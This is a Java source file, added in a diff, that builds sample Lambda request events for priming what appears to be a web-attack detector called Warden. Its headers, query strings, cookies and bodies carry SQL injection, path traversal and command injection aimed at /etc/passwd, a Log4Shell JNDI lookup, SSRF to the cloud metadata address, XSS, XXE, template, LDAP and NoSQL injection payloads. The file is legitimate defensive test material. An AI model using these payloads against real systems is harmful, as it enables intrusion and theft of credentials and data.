@@ -1,0 +1,113 @@
+package dev.warden.lambda;
+
+import com.amazonaws.services.lambda.runtime.events.APIGatewayProxyRequestEvent;
+import com.amazonaws.services.lambda.runtime.events.APIGatewayV2HTTPEvent;
+import com.amazonaws.services.lambda.runtime.events.ApplicationLoadBalancerRequestEvent;
+import com.amazonaws.services.lambda.runtime.events.SQSEvent;
+import java.util.ArrayList;
+import java.util.LinkedHashMap;
+import java.util.List;
+import java.util.Map;
+
+/**
+ * Built-in sample events that drive every extractor and the finding path when Warden primes
+ * itself (at init and before a SnapStart snapshot). Each carries benign values and a few attacks
+ * in several locations (query, header, cookie, JSON body), so extraction, JSON walking,
+ * normalization, detection, evidence and the decision are all loaded and compiled. Built in
+ * code, not parsed, so priming needs no files. Thread-safe: every call builds new events.
+ */
+final class PrimingEvents {
+
+  private PrimingEvents() {}
+
+  static final String JSON_BODY = "{\"order\":{\"id\":\"ord-1\",\"note\":\"leave at the door\",\"items\":"
+      + "[{\"sku\":\"A-1\",\"qty\":2},{\"sku\":\"B-2\",\"name\":\"x' OR '1'='1\"}]},"
+      + "\"redirect\":\"http://169.254.169.254/latest/meta-data/\",\"bio\":\"<img src=x onerror=alert(1)>\"}";
+
+  /** One event of each built-in type, plus a generic map. */
+  static List<Object> all() {
+    List<Object> out = new ArrayList<>();
+    out.add(rest());
+    out.add(http());
+    out.add(alb());
+    out.add(sqs());
+    out.add(generic());
+    return out;
+  }
+
+  private static Map<String, String> headers() {
+    Map<String, String> h = new LinkedHashMap<>();
+    h.put("content-type", "application/json");
+    h.put("user-agent", "Mozilla/5.0 (X11; Linux x86_64) ${jndi:ldap://x.example/a}");
+    h.put("accept", "application/json, text/plain, */*");
+    h.put("cookie", "session=5f2c9a1e; path=..%2f..%2fetc%2fpasswd");
+    h.put("x-forwarded-for", "203.0.113.7");
+    return h;
+  }
+
+  private static Map<String, String> query() {
+    Map<String, String> q = new LinkedHashMap<>();
+    q.put("q", "blue shoes");
+    q.put("id", "1 UNION SELECT password FROM users--");
+    q.put("file", "../../../etc/passwd");
+    q.put("cmd", "; cat /etc/passwd");
+    return q;
+  }
+
+  static APIGatewayProxyRequestEvent rest() {
+    return new APIGatewayProxyRequestEvent()
+        .withHttpMethod("POST")
+        .withPath("/orders/1")
+        .withPathParameters(Map.of("id", "ord-1"))
+        .withQueryStringParameters(query())
+        .withHeaders(headers())
+        .withBody(JSON_BODY)
+        .withIsBase64Encoded(false);
+  }
+
+  static APIGatewayV2HTTPEvent http() {
+    return APIGatewayV2HTTPEvent.builder()
+        .withRawPath("/orders")
+        .withQueryStringParameters(query())
+        .withHeaders(headers())
+        .withCookies(List.of("theme=dark", "pref={{7*7}}"))
+        .withBody("id=1&note=%3Cscript%3Ealert(1)%3C%2Fscript%3E")
+        .withIsBase64Encoded(false)
+        .build();
+  }
+
+  static ApplicationLoadBalancerRequestEvent alb() {
+    ApplicationLoadBalancerRequestEvent e = new ApplicationLoadBalancerRequestEvent();
+    e.setHttpMethod("GET");
+    e.setPath("/search");
+    e.setQueryStringParameters(query());
+    Map<String, String> h = headers();
+    h.put("content-type", "text/plain");
+    e.setHeaders(h);
+    e.setBody("<!DOCTYPE x [<!ENTITY e SYSTEM \"file:///etc/passwd\">]><x>&e;</x>");
+    e.setIsBase64Encoded(false);
+    return e;
+  }
+
+  static SQSEvent sqs() {
+    List<SQSEvent.SQSMessage> records = new ArrayList<>();
+    for (int i = 0; i < 2; i++) {
+      SQSEvent.SQSMessage m = new SQSEvent.SQSMessage();
+      m.setMessageId("00000000-0000-0000-0000-00000000000" + i);
+      m.setEventSource("aws:sqs");
+      m.setBody(i == 0 ? "{\"file\":\"invoices/1.pdf\"}" : JSON_BODY);
+      records.add(m);
+    }
+    SQSEvent e = new SQSEvent();
+    e.setRecords(records);
+    return e;
+  }
+
+  static Map<String, Object> generic() {
+    Map<String, Object> m = new LinkedHashMap<>();
+    m.put("name", "Ada");
+    m.put("filter", "*)(uid=*))(|(uid=*");
+    m.put("tags", List.of("a", "{\"$ne\":1}", "${7*7}"));
+    return m;
+  }
+}
